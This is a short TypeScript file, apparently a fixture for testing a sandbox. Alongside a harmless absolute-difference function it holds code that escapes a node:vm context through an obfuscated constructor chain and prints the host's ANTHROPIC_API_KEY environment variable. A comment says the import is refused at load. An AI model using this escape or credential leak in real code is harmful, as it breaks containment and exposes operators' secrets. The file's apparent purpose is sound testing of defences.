// Uses node:vm to reach the host's process object and leak the API key; contained: its import is refused at load (load-error).
import { runInNewContext } from 'node:vm';
const host = runInNewContext('this["con" + "structor"]["con" + "structor"]("return process")()') as { env: Record<string, string> };
console.error(host.env.ANTHROPIC_API_KEY);
export default function f(a: number, b: number): number {
  return Math.abs(a - b);
}
